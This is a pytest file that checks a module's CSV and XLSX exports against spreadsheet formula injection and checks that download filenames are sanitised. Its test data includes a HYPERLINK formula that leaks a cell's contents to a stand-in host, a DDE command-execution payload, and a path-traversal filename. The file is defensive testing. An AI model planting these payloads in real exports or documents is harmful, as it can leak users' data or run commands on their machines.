"""Safe exports: no cell Belong writes is run by a spreadsheet as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from belong.core import exports

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
SAFE = ["Ann", "O'Brien", "", "a=b", "1-2", "Chair, Medicine", 'He said "hi"']


@pytest.mark.parametrize("value", DANGEROUS)
def test_neutralise_formula_prefixes_an_apostrophe(value: str) -> None:
    assert exports.neutralise_formula(value) == "'" + value
    assert exports.looks_like_formula(value)


@pytest.mark.parametrize("value", [*SAFE, -5, 3.5, None, dt.date(2024, 7, 1), True])
def test_neutralise_formula_leaves_everything_else(value: object) -> None:
    assert exports.neutralise_formula(value) == value


def _read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads accents"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_write_csv_neutralises_and_keeps_types_as_text() -> None:
    rows = [[v, 1] for v in DANGEROUS + SAFE] + [[-5, Decimal("2.50")], [dt.date(2024, 7, 1), None]]
    parsed = _read_csv(exports.write_csv(rows, header=["=Name", "Count"]))
    assert parsed[0] == ["'=Name", "Count"]
    body = parsed[1:]
    for value, row in zip(DANGEROUS, body, strict=False):
        assert row[0] == "'" + value
    for value, row in zip(SAFE, body[len(DANGEROUS) :], strict=False):
        assert row[0] == value
    assert body[-2] == ["-5", "2.50"], "numbers are not text and cannot run"
    assert body[-1] == ["2024-07-01", ""]


def _xml(text: str) -> str:
    """What an XML reader gives back: line ends normalised to "\\n"."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _cells(content: bytes) -> list:  # type: ignore[type-arg]
    workbook = load_workbook(io.BytesIO(content))
    return [cell for row in workbook.active.iter_rows() for cell in row]


def test_write_xlsx_writes_strings_never_formulas() -> None:
    rows = [[v] for v in DANGEROUS + SAFE]
    content = exports.write_xlsx(rows, header=["=Header"], sheet="People [export]")
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["People  export"]
    cells = _cells(content)
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert values[0] == "=Header"
    # Values are kept as they were (empty text reads back as an empty cell).
    assert values[1:] == [_xml(v) if v != "" else None for v in DANGEROUS + SAFE]
    formula_like = {c.coordinate for c in cells if c.value and exports.looks_like_formula(c.value)}
    assert formula_like and all(c.quotePrefix for c in cells if c.coordinate in formula_like), (
        "Excel keeps a quote-prefixed cell as text even when it is edited"
    )


def test_write_xlsx_keeps_numbers_dates_and_booleans() -> None:
    when = dt.datetime(2024, 7, 1, 9, 30, tzinfo=dt.UTC)
    content = exports.write_xlsx([[-5, 2.5, dt.date(2024, 7, 1), when, True, None, Decimal("1.5")]])
    values = [c.value for c in _cells(content)]
    assert values[:2] == [-5, 2.5]
    assert values[2] == dt.datetime(2024, 7, 1) and values[3] == dt.datetime(2024, 7, 1, 9, 30)
    assert values[4] is True and values[5] is None and values[6] == 1.5


def test_write_xlsx_drops_characters_xml_cannot_hold() -> None:
    [cell] = _cells(exports.write_xlsx([["bell\x07ring"]]))
    assert cell.value == "bellring"


def test_download_responses() -> None:
    response = exports.csv_response([["=1"]], ["A"], filename='../etc/"passwd".csv')
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="passwd-.csv"'
    response = exports.xlsx_response([["=1"]], ["A"], filename="counts.xlsx")
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert all(c.data_type != "f" for c in _cells(response.content))


TEXT = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=20)


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(st.one_of(TEXT, st.sampled_from(DANGEROUS)), max_size=5), max_size=8))
def test_no_exported_cell_can_run(rows: list[list[str]]) -> None:
    parsed = _read_csv(exports.write_csv(rows))
    # An oracle independent of the code under test: what spreadsheets treat as a
    # formula start (after leading spaces), including full-width look-alikes.
    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    for row in parsed:
        for cell in row:
            assert not cell.lstrip(" ").startswith(starts), cell
    cells = _cells(exports.write_xlsx(rows))
    assert all(cell.data_type != "f" for cell in cells)
    written = [cell.value for cell in cells if cell.value is not None]
    expected = [_xml(ILLEGAL_CHARACTERS_RE.sub("", v)) for row in rows for v in row]
    assert written == [v for v in expected if v != ""]
